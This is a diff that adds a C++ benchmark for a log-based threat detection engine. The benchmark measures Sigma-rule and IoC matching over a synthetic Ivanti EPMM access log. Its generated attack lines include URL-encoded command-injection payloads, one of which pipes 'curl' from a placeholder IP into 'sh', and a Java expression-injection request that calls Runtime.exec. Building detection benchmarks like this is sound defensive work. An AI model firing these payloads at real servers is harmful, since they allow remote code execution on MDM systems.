@@ -1,0 +1,238 @@
+// Lines per second of the offline detection pipeline (parse, percent-decode, Sigma matching over
+// Vectorscan, IoC lookups) over a generated EPMM access log with benign MDM traffic and exploit
+// lines mixed in, with the bundled rules, SigmaHQ's web rules and 100,000 IoCs loaded. Printed
+// beside plain line splitting, the floor any log reader pays.
+//
+//   detect_bench [--lines=N] [google-benchmark flags]
+#include <benchmark/benchmark.h>
+
+#include <chrono>
+#include <cstdio>
+#include <cstring>
+#include <memory>
+#include <random>
+#include <string>
+#include <string_view>
+#include <vector>
+
+#include "detect/ioc.h"
+#include "detect/log_parser.h"
+#include "detect/sigma.h"
+
+namespace rampart::detect {
+namespace {
+
+size_t g_lines = 1000000;
+constexpr int64_t kNow = 1769760000000;
+
+struct Corpus {
+  std::string text;
+  std::vector<bool> attack;  // per line
+};
+
+// Benign shapes outnumber attacks about 200:1, as on a busy EPMM front end.
+Corpus Generate(size_t lines) {
+  static const char* kBenign[] = {
+      "\"POST /mifs/services/CheckinService HTTP/1.1\" 200 812 \"-\" \"MobileIron/12.1.0 "
+      "(iPhone; iOS 17.2.1)\"",
+      "\"GET /mifs/c/appstore/fob/3/17/sha256:kid=1,st=1769760000,h="
+      "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08,et=1769763600/"
+      "0f8fad5b-d9cb-469f-a165-70867728950e.ipa HTTP/1.1\" 200 48213377 \"-\" \"MobileIron/12.1 "
+      "CFNetwork/1410.0.3 Darwin/22.6.0\"",
+      "\"GET /mifs/admin/rest/api/v2/device?limit=50&offset=100&sortField=lastCheckin HTTP/1.1\" "
+      "200 45123 \"https://mdm.example.eu/mifs/admin/\" \"Mozilla/5.0 (Windows NT 10.0; Win64; "
+      "x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36\"",
+      "\"GET /mifs/css/theme2.css HTTP/1.1\" 200 48213 \"https://mdm.example.eu/mifs/login.jsp\" "
+      "\"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\"",
+      "\"GET /mifs/user/login.jsp HTTP/1.1\" 200 4312 \"-\" \"Mozilla/5.0 (Macintosh; Intel Mac "
+      "OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15\"",
+      "\"POST /mifs/c/windows/api/v1/device/registration HTTP/1.1\" 200 233 \"-\" "
+      "\"Windows-Enrollment/10.0\"",
+      "\"GET /mifs/images/logo.png?v=12.1 HTTP/1.1\" 304 - \"https://mdm.example.eu/mifs/\" "
+      "\"Mozilla/5.0 (iPad; CPU OS 17_2 like Mac OS X) AppleWebKit/605.1.15\"",
+  };
+  static const char* kAttacks[] = {
+      "\"GET /mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,h=gPath%5B%60"
+      "curl%20-s%20http%3A%2F%2F198.51.100.9%2Fx%7Csh%60%5D/0f8fad5b-d9cb-469f-a165-"
+      "70867728950e.ipa HTTP/1.1\" 404 196 \"-\" \"python-requests/2.31.0\"",
+      "\"GET /mifs/c/aftstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,h=gPath%5B%60"
+      "id%60%5D/a.apk HTTP/1.1\" 404 196 \"-\" \"python-requests/2.31.0\"",
+      "\"POST /mifs/403.jsp HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) "
+      "Gecko/20100101 Firefox/128.0\"",
+      "\"GET /mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1 HTTP/1.1\" 200 5321 \"-\" "
+      "\"python-requests/2.28.1\"",
+      "\"GET /mifs/rs/api/v2/featureusage?format=%24%7B''.getClass().forName('java.lang.Runtime')"
+      ".getMethod('getRuntime').invoke(null).exec('id')%7D HTTP/1.1\" 400 120 \"-\" \"-\"",
+      "\"GET /mifs/css/mibasecss.css HTTP/1.1\" 200 18233127 \"-\" \"curl/8.5.0\"",
+  };
+  Corpus c;
+  c.text.reserve(lines * 260);
+  std::mt19937 rng(42);
+  char prefix[128];
+  for (size_t i = 0; i < lines; ++i) {
+    bool attack = rng() % 200 == 0;
+    unsigned a = rng();
+    std::snprintf(prefix, sizeof(prefix),
+                  "mdm.example.eu:443 %u.%u.%u.%u - - [30/Jan/2026:%02zu:%02zu:%02zu +0100] ",
+                  attack ? 203u : 10u, attack ? 0u : (a >> 8) & 255,
+                  attack ? 113u : (a >> 16) & 255, a & 255, (i / 3600) % 24, (i / 60) % 60, i % 60);
+    c.text += prefix;
+    c.text += attack ? kAttacks[rng() % std::size(kAttacks)] : kBenign[rng() % std::size(kBenign)];
+    c.text += '\n';
+    c.attack.push_back(attack);
+  }
+  return c;
+}
+
+struct Engine {
+  std::unique_ptr<RuleSet> rules;
+  IocStore iocs;
+};
+
+Engine& TheEngine() {
+  static Engine* engine = [] {
+    auto* e = new Engine();
+    RuleSetBuilder b;
+    (void)b.AddDirectory(RAMPART_SOURCE_DIR "/rules/sigma");
+    (void)b.AddDirectory(RAMPART_SOURCE_DIR "/../shared/sigma");
+    auto r = b.Build();
+    if (!r.ok()) {
+      std::fprintf(stderr, "rules: %s\n", r.status().ToString().c_str());
+      std::exit(1);
+    }
+    e->rules = std::move(r).value();
+    std::string csv;
+    char line[96];
+    for (int i = 0; i < 100000; ++i) {
+      int k = i / 4;
+      switch (i % 4) {
+        case 0:
+          std::snprintf(line, sizeof(line), "ip,198.18.%d.%d\n", k >> 8, k & 255);
+          break;
+        case 1:
+          std::snprintf(line, sizeof(line), "ip,2001:db8:%x::/64\n", k);
+          break;
+        case 2:
+          std::snprintf(line, sizeof(line), "domain,host%d.bad.example\n", k);
+          break;
+        default:
+          std::snprintf(line, sizeof(line), "url,http://u%d.example/p\n", k);
+          break;
+      }
+      csv += line;
+    }
+    (void)ImportCsv(csv, "bench", kNow, &e->iocs);
+    std::fprintf(stderr, "loaded %zu rules (%zu skipped), %zu IoCs, %zu Vectorscan matchers\n",
+                 e->rules->size(), e->rules->skipped().size(), e->iocs.size(),
+                 e->rules->vectorscan_matchers());
+    return e;
+  }();
+  return *engine;
+}
+
+const Corpus& TheCorpus() {
+  static const Corpus* c = new Corpus(Generate(g_lines));
+  return *c;
+}
+
+template <typename F>
+void ForEachLine(std::string_view text, F&& f) {
+  const char* p = text.data();
+  const char* end = p + text.size();
+  while (p < end) {
+    const char* nl = static_cast<const char*>(std::memchr(p, '\n', end - p));
+    if (nl == nullptr) nl = end;
+    f(std::string_view(p, nl - p));
+    p = nl + 1;
+  }
+}
+
+struct PassResult {
+  size_t lines = 0, flagged_attack = 0, flagged_benign = 0, alerts = 0;
+};
+
+// mode 0: split only; 1: + parse; 2: + Sigma; 3: + IoCs.
+PassResult Pass(int mode) {
+  const Corpus& c = TheCorpus();
+  Engine& e = TheEngine();
+  RuleMatcher matcher(*e.rules);
+  LineParser parser(LogFormat::kEpmm);
+  Event ev;
+  std::vector<uint32_t> hits;
+  std::vector<IocMatch> ioc_hits;
+  PassResult r;
+  ForEachLine(c.text, [&](std::string_view line) {
+    size_t i = r.lines++;
+    if (mode == 0) {
+      benchmark::DoNotOptimize(line.data());
+      return;
+    }
+    if (!parser.Parse(line, &ev)) return;
+    if (mode == 1) return;
+    matcher.Match(ev, &hits);
+    size_t n = hits.size();
+    if (mode == 3) {
+      e.iocs.MatchEvent(ev, kNow, &ioc_hits);
+      n += ioc_hits.size();
+    }
+    r.alerts += n;
+    if (n > 0) ++(c.attack[i] ? r.flagged_attack : r.flagged_benign);
+  });
+  return r;
+}
+
+void BM_Split(benchmark::State& state) {
+  for (auto _ : state) benchmark::DoNotOptimize(Pass(0));
+  state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * g_lines));
+}
+void BM_Parse(benchmark::State& state) {
+  for (auto _ : state) benchmark::DoNotOptimize(Pass(1));
+  state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * g_lines));
+}
+void BM_ParseSigma(benchmark::State& state) {
+  for (auto _ : state) benchmark::DoNotOptimize(Pass(2));
+  state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * g_lines));
+}
+void BM_ParseSigmaIocs(benchmark::State& state) {
+  for (auto _ : state) benchmark::DoNotOptimize(Pass(3));
+  state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * g_lines));
+}
+BENCHMARK(BM_Split)->Unit(benchmark::kMillisecond);
+BENCHMARK(BM_Parse)->Unit(benchmark::kMillisecond);
+BENCHMARK(BM_ParseSigma)->Unit(benchmark::kMillisecond);
+BENCHMARK(BM_ParseSigmaIocs)->Unit(benchmark::kMillisecond);
+
+double Seconds(int mode, PassResult* out) {
+  auto start = std::chrono::steady_clock::now();
+  *out = Pass(mode);
+  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
+}
+
+}  // namespace
+}  // namespace rampart::detect
+
+int main(int argc, char** argv) {
+  using namespace rampart::detect;
+  for (int i = 1; i < argc; ++i) {
+    if (std::strncmp(argv[i], "--lines=", 8) == 0)
+      g_lines = std::strtoull(argv[i] + 8, nullptr, 10);
+  }
+  benchmark::Initialize(&argc, argv);
+  TheEngine();
+  const Corpus& c = TheCorpus();
+  size_t attacks = 0;
+  for (bool a : c.attack) attacks += a;
+  PassResult base, full;
+  double t0 = Seconds(0, &base);
+  double t3 = Seconds(3, &full);
+  double base_rate = static_cast<double>(base.lines) / t0;
+  double rate = static_cast<double>(full.lines) / t3;
+  std::printf(
+      "summary: %zu lines (%zu attack lines); split %.0f lines/s; full pipeline %.0f lines/s "
+      "(%.1fx the cost of splitting); attack lines flagged %zu/%zu, benign lines flagged %zu\n",
+      full.lines, attacks, base_rate, rate, base_rate / rate, full.flagged_attack, attacks,
+      full.flagged_benign);
+  benchmark::RunSpecifiedBenchmarks();
+  benchmark::Shutdown();
+  return 0;
+}
